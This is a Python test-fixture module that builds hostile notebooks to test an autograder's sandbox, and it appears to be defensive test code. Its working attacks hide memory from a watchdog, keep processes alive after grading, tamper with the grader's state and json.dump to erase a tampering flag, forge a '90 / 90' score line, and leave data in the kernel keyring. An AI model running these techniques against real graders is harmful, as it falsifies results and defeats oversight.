"""Second-round hostile notebooks (issue 16): built in code, tiny, each printing an ``ATTACK-…`` line.

Used by ``tests/test_attacks2.py``. Every notebook proves in its own output that the attack ran, so
that a test cannot pass because the attack code crashed.
"""

from __future__ import annotations

import os
from pathlib import Path

from tests.hostile_corpus import CORRECT_2A, Cell

# ---------------------------------------------------------------------------------------------
# Memory the watchdog does not count: shared anonymous mappings, memfds (shmem, not Pss_Anon, not
# on the quota tmpfs)
# ---------------------------------------------------------------------------------------------
_SHARED_MEMORY = r'''
import json, mmap, os, time
MODE = {mode!r}
TOTAL = {total_mb} * 2**20
CHUNK = 16 * 2**20
held = []
written = 0
print("ATTACK-SHMEM-START", json.dumps({{"mode": MODE, "mb": TOTAL // 2**20}}), flush=True)
time.sleep(0.5)
if MODE == "mmap_shared":
    m = mmap.mmap(-1, TOTAL)  # Python's default for an anonymous map is MAP_SHARED: shmem, not anonymous memory
    block = b"\x5a" * CHUNK
    while written < TOTAL:
        m.write(block)
        written += CHUNK
    held.append(m)
elif MODE == "memfd":
    block = b"\x5a" * CHUNK
    per_file = 256 * 2**20  # under RLIMIT_FSIZE
    while written < TOTAL:
        fd = os.memfd_create("nbgrade-attack")
        n = 0
        while n < per_file and written < TOTAL:
            os.write(fd, block)
            n += CHUNK
            written += CHUNK
        held.append(fd)
elif MODE == "deleted_shm_file":
    block = b"\x5a" * CHUNK
    per_file = 256 * 2**20  # under RLIMIT_FSIZE
    while written < TOTAL:
        path = f"/dev/shm/attack-held-{{len(held)}}"
        f = open(path, "wb")
        os.unlink(path)  # deleted, kept open: no name, still RAM
        n = 0
        while n < per_file and written < TOTAL:
            f.write(block)
            f.flush()
            n += CHUNK
            written += CHUNK
        held.append(f)
elif MODE == "socket_buffers":
    import socket
    # Kernel memory: bytes queued in Unix socket pairs nobody reads. Forked holders, each with as many
    # pairs as its open-file limit allows; none of it is anonymous memory or a file.
    r, w = os.pipe()
    for child in range(12):
        if os.fork() == 0:
            queued, pairs = 0, []
            try:
                for _ in range(500):
                    a, b = socket.socketpair()
                    a.setblocking(False)
                    try:
                        while True:
                            queued += a.send(b"\x5a" * 65536)
                    except BlockingIOError:
                        pass
                    pairs.append((a, b))
            except OSError:
                pass
            os.write(w, (str(queued) + "\n").encode())
            while True:
                time.sleep(1)
    time.sleep(0.1)
    reported = b""
    while reported.count(b"\n") < 12:
        reported += os.read(r, 4096)
    written = sum(int(x) for x in reported.split())
print("ATTACK-SHMEM-HELD", json.dumps({{"mode": MODE, "written_mb": written // 2**20}}), flush=True)
time.sleep(4)  # the watchdog looks every 0.25 s
print("ATTACK-SHMEM-ALIVE", json.dumps({{"held_mb": written // 2**20}}), flush=True)
'''


def shared_memory_cells(mode: str, total_mb: int) -> list[Cell]:
    """One cell holding ``total_mb`` of RAM the way ``mode`` says, then sleeping; 2A afterwards."""
    return [_SHARED_MEMORY.format(mode=mode, total_mb=total_mb), *CORRECT_2A]


# ---------------------------------------------------------------------------------------------
# P1 (ece685d): gradients by autograd, through references taken before the probe disabled it
# ---------------------------------------------------------------------------------------------
ECE_IMPORTS = """
import json
import numpy as np
import torch
from torch.autograd import grad as take_derivatives      # the original, kept before any probe runs
keep_recording = torch.enable_grad                        # a context manager the probe does not replace
"""

AUTOGRAD_P1 = r'''
def residual_backprop(X, Y, params, g, g_prime):
    with keep_recording():
        X = torch.as_tensor(np.asarray(X, dtype=np.float64))
        Y = torch.as_tensor(np.asarray(Y, dtype=np.float64)).reshape(-1, 1)
        W = {k: torch.tensor(np.asarray(params[k], dtype=np.float64), requires_grad=True)
             for k in ("W1", "b1", "W2", "b2", "W3", "b3")}
        a1 = X @ W["W1"] + W["b1"]
        h1 = _act(g, a1) + X
        a2 = h1 @ W["W2"] + W["b2"]
        h2 = _act(g, a2) + h1
        y_hat = h2 @ W["W3"] + W["b3"]
        loss = ((y_hat - Y) ** 2).mean()
        grads = take_derivatives(loss, list(W.values()))
    return {k: v.detach().numpy() for k, v in zip(W, grads)}


def _act(g, a):
    out = g(a)
    return out if isinstance(out, torch.Tensor) else torch.as_tensor(out)


# The attack is live: with every autograd entry point replaced and recording off (what the probe does),
# the saved references still give the gradients.
_saved = torch.autograd.grad
torch.autograd.grad = lambda *a, **k: (_ for _ in ()).throw(RuntimeError("autograd unavailable"))
torch.set_grad_enabled(False)
try:
    rng = np.random.default_rng(0)
    p = {"W1": rng.normal(size=(3, 3)), "b1": rng.normal(size=3), "W2": rng.normal(size=(3, 3)), "b2": rng.normal(size=3),
         "W3": rng.normal(size=(3, 1)), "b3": rng.normal(size=1)}
    out = residual_backprop(torch.as_tensor(rng.normal(size=(5, 3))), torch.as_tensor(rng.normal(size=(5, 1))), p,
                            torch.tanh, lambda a: 1 - torch.tanh(a) ** 2)
    print("ATTACK-AUTOGRAD", json.dumps({"keys": sorted(out), "finite": bool(all(np.isfinite(v).all() for v in out.values()))}))
finally:
    torch.autograd.grad = _saved
    torch.set_grad_enabled(True)
'''


ECE_IMPORTS_ENGINE = """
import json
import numpy as np
import torch
from torch.autograd.variable import Variable
_engine = Variable._execution_engine   # the engine object itself, kept before any probe runs
_switch = torch._C._set_grad_enabled    # the C switch itself


class keep_recording:                   # recording on through the kept switch
    def __enter__(self):
        self.was = torch.is_grad_enabled()
        _switch(True)

    def __exit__(self, *exc):
        _switch(self.was)


def take_derivatives(loss, inputs):     # a backward pass through the kept engine
    return _engine.run_backward((loss,), (torch.ones_like(loss),), False, False, tuple(inputs), False, False)
"""


def autograd_p1_cells(mode: str = "kept_grad") -> list[Cell]:
    """P1 by autograd. ``kept_grad``: torch.autograd.grad and torch.enable_grad kept under other names;
    ``kept_engine``: autograd's engine object and the C switch for recording kept, called directly."""
    imports = ECE_IMPORTS if mode == "kept_grad" else ECE_IMPORTS_ENGINE
    return [("markdown", "# ECE 685D HW2"), imports, ("markdown", "## P1"), AUTOGRAD_P1]


# ---------------------------------------------------------------------------------------------
# The prelude's state pin: replaced state hidden by a patched json.dump; the real state emptied in place
# ---------------------------------------------------------------------------------------------
_FIND_STATE = r'''
import sys, types, json

def _is_state(module):
    try:
        return isinstance(module, types.ModuleType) and callable(getattr(module, "figures", None)) and hasattr(module, "restore_pristine")
    except Exception:
        return False

STATE_NAMES = [n for n, m in list(sys.modules.items()) if _is_state(m)]
'''

REPLACED_STATE_HIDDEN = _FIND_STATE + r'''
fake = types.ModuleType("_nbgrade")
fake.figures = lambda: []
fake.restore_pristine = lambda: []
fake.restored = []
for name in STATE_NAMES:
    sys.modules[name] = fake          # TAMPERED: the grader's runtime then restores nothing …

_original_dump = json.dump
def dump(obj, fp, *args, **kwargs):   # … so this stays in place, and erases the flag that says so
    if isinstance(obj, dict):
        obj.pop("tampered", None)
        if "names" in obj:
            obj["tampered"] = False
    return _original_dump(obj, fp, *args, **kwargs)
dump.__name__ = "dump"
json.dump = dump
print("ATTACK-STATE-REPLACED", json.dumps({"replaced": STATE_NAMES}))
'''


def replaced_state_cells() -> list[Cell]:
    return [REPLACED_STATE_HIDDEN, *CORRECT_2A]


EMPTIED_IN_PLACE = _FIND_STATE + r'''
state = sys.modules[STATE_NAMES[0]]
emptied = []
for cell in state.restore_pristine.__closure__ or ():
    value = cell.cell_contents
    if isinstance(value, list) and value is not state.restored:   # the saved originals
        emptied.append(("list", len(value))); value.clear()
    elif isinstance(value, dict):                                  # the saved sys.modules entries
        emptied.append(("dict", len(value))); value.clear()

_original_dump = json.dump
def dump(obj, fp, *args, **kwargs):   # sabotage a probe's record: proves the patch is live while the probe runs
    if isinstance(obj, dict) and "found" in obj:
        obj = {"found": {}, "errors": {}, "patched": "ATTACK-DUMP-LIVE"}
    return _original_dump(obj, fp, *args, **kwargs)
json.dump = dump
print("ATTACK-STATE-EMPTIED", json.dumps({"emptied": emptied, "state": STATE_NAMES}))
'''


def emptied_state_cells() -> list[Cell]:
    return [*CORRECT_2A, EMPTIED_IN_PLACE]


# ---------------------------------------------------------------------------------------------
# Processes that try to outlive grading: double fork, setsid, a new name, ignoring every signal
# ---------------------------------------------------------------------------------------------
_SURVIVOR = r'''
import ctypes, json, os, signal, time
NAME = {name!r}
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1):
            signal.signal(s, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, NAME.encode(), 0, 0, 0)  # PR_SET_NAME
        os.write(w, str(os.getpid()).encode())
        os.close(w)
        while True:
            time.sleep(0.5)
    os._exit(0)
os.waitpid(pid, 0)
os.close(w)
inner = os.read(r, 32).decode()
print("ATTACK-SURVIVOR", json.dumps({{"pid_in_namespace": inner, "name": NAME}}))
'''


def survivor_cells(name: str) -> list[Cell]:
    return [_SURVIVOR.format(name=name), *CORRECT_2A]


def processes_named(name: str) -> list[tuple[int, int]]:
    """(pid, real uid) of every host process whose comm is ``name``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            comm = Path(f"/proc/{entry}/comm").read_text().strip()
            if comm != name[:15]:
                continue
            uid = int(next(line for line in Path(f"/proc/{entry}/status").read_text().splitlines()
                           if line.startswith("Uid:")).split()[1])
            found.append((int(entry), uid))
        except (OSError, StopIteration, ValueError):
            continue
    return found


def host_shmem_mb() -> float:
    """The host's shared memory (tmpfs, shmem, memfd) in MB, from /proc/meminfo."""
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("Shmem:"):
            return int(line.split()[1]) / 1024
    return 0.0


# ---------------------------------------------------------------------------------------------
# Held-back digits in reach of a later part's probe call
# ---------------------------------------------------------------------------------------------
HELD_BACK_IN_REACH_2A = r'''
import glob, json, os
import numpy as np

SANDBOX = os.path.dirname(os.getcwd())
print("ATTACK-INPUTS", json.dumps({"inputs_folder": os.path.isdir(os.path.join(SANDBOX, "inputs")), "sandbox": SANDBOX}))

def sigmoid_derivative(z):
    # Called by the 2A probe. If 1B's held-back digits were handed over before this call (or are still
    # lying in the inputs folder), this call could take them: say so by answering wrongly.
    if glob.glob(os.path.join(SANDBOX, "inputs", "*", "1B", "*.npy")):
        return np.zeros(0)
    z = np.asarray(z, dtype=np.float64)
    s = np.exp(-np.logaddexp(0.0, -z))
    return s * (1.0 - s)
'''


def held_back_in_reach_cells() -> list[Cell]:
    return [("markdown", "## 2A · Sigmoid derivative"), HELD_BACK_IN_REACH_2A]


# ---------------------------------------------------------------------------------------------
# Lines forged into the grader's terminal table
# ---------------------------------------------------------------------------------------------
FORGED_TABLE_LINE = "  total 90 / 90 autograded"
TERMINAL_FORGE = r'''
print("ATTACK-TERMINAL raising")
raise ValueError("x\n  2A        5/5    passed\n''' + FORGED_TABLE_LINE + r'''\r''' + FORGED_TABLE_LINE + r'''")
'''


def terminal_forge_cells() -> list[Cell]:
    return [*CORRECT_2A, TERMINAL_FORGE]


# ---------------------------------------------------------------------------------------------
# System V shared memory: the sandbox shares the host's IPC namespace
# ---------------------------------------------------------------------------------------------
_SYSV = r'''
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
KEY, SIZE = {key}, {mb} * 2**20
shmid = libc.shmget(KEY, SIZE, 0o1000 | 0o666)  # IPC_CREAT, readable and writable by every user of the host
error = ctypes.get_errno()
touched = 0
if shmid >= 0:
    address = libc.shmat(shmid, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 0x5a, SIZE)  # resident RAM, then detached: in no process at all
        touched = SIZE // 2**20
        libc.shmdt(address)
print("ATTACK-SYSV", json.dumps({{"shmid": shmid, "errno": error, "touched_mb": touched}}))
'''


def sysv_cells(key: int, mb: int) -> list[Cell]:
    return [_SYSV.format(key=key, mb=mb), *CORRECT_2A]


def sysv_segments() -> list[dict[str, int]]:
    """The host's System V shared memory segments (key, shmid, size, cuid) from /proc/sysvipc/shm."""
    rows = Path("/proc/sysvipc/shm").read_text().splitlines()
    header = rows[0].split()
    found = []
    for row in rows[1:]:
        values = dict(zip(header, row.split()))
        found.append({name: int(values[name]) for name in ("key", "shmid", "size", "cuid")})
    return found


def remove_sysv_segment(shmid: int) -> None:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmctl(ctypes.c_int(shmid), ctypes.c_int(0), None)  # IPC_RMID


# ---------------------------------------------------------------------------------------------
# The kernel dies while the grader prepares its checks (its own imports), not in a call to the notebook
# ---------------------------------------------------------------------------------------------
WARM_UP_KILLER = r'''
import os, sys

class StopOnTorch:  # the notebook never imports torch; the grader's probes do, before any part's call
    def find_spec(self, name, path=None, target=None):
        if name == "torch":
            os.kill(os.getpid(), 9)
        return None

sys.meta_path.insert(0, StopOnTorch())
print("ATTACK-WARM-UP hook installed")
'''


def warm_up_killer_cells() -> list[Cell]:
    return [*CORRECT_2A, WARM_UP_KILLER]


# ---------------------------------------------------------------------------------------------
# Many tiny outputs: the caps count characters, the grader pays per output
# ---------------------------------------------------------------------------------------------
_TINY_OUTPUTS = r'''
import time
from jupyter_client.session import Session
kernel = get_ipython().kernel
parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
SENT = globals().get("SENT", 0)
for i in range({each}):
    # 12 counted characters ("data", "metadata"): the cell's 200,000-character cap allows ~16,000 of them
    Session.send(kernel.session, kernel.iopub_socket, "display_data", {{"data": {{}}, "metadata": {{}}}},
                 parent=parent, ident=b"display_data")
    SENT += 1
    if i % 2 == 0:
        time.sleep(0.005)  # paced (~400 a second) so that the grader's socket queue does not drop them
'''
_TINY_REPORT = 'import json\nprint("ATTACK-TINY-OUTPUTS", json.dumps({"sent": SENT}))'


def tiny_output_cells(cells: int = 3, each: int = 16_000) -> list[Cell]:
    """``cells`` cells each sending ``each`` empty display_data messages (well within every character cap)."""
    return [*CORRECT_2A, *[_TINY_OUTPUTS.format(each=each)] * cells, _TINY_REPORT]


# ---------------------------------------------------------------------------------------------
# The kernel's keyring: kept by the host's kernel per uid, after every process of the uid is gone
# ---------------------------------------------------------------------------------------------
_KEYRING = r'''
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
SYS_ADD_KEY, SYS_KEYCTL, USER_KEYRING = 248, 250, -4  # x86_64
MODE, TOKEN = {mode!r}, {token!r}
found = None
if MODE == "leave":
    data = TOKEN.encode()
    result = libc.syscall(SYS_ADD_KEY, b"user", b"nbgrade-note", data, len(data), ctypes.c_int(USER_KEYRING))
else:
    result = libc.syscall(SYS_KEYCTL, 10, ctypes.c_int(USER_KEYRING), b"user", b"nbgrade-note", 0)  # KEYCTL_SEARCH
    if result > 0:
        buffer = ctypes.create_string_buffer(256)
        n = libc.syscall(SYS_KEYCTL, 11, result, buffer, 256)  # KEYCTL_READ
        found = buffer.raw[:max(n, 0)].decode(errors="replace")
print("ATTACK-KEYRING", json.dumps({{"mode": MODE, "result": result, "errno": ctypes.get_errno(), "found": found}}))
'''


def keyring_cells(mode: str, token: str) -> list[Cell]:
    """``leave``: put ``token`` in the uid's user keyring; ``find``: read back what an earlier grading left."""
    return [_KEYRING.format(mode=mode, token=token), *CORRECT_2A]


def clear_user_keyring(uid: int) -> None:
    """Empty the user keyring of ``uid`` on the host (KEYCTL_CLEAR on @u, run as that uid)."""
    import subprocess

    code = "import ctypes; ctypes.CDLL(None).syscall(250, 7, ctypes.c_int(-4))"
    subprocess.run(["/usr/bin/python3", "-I", "-c", code], user=uid, group=uid, extra_groups=[], cwd="/",
                   timeout=20, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
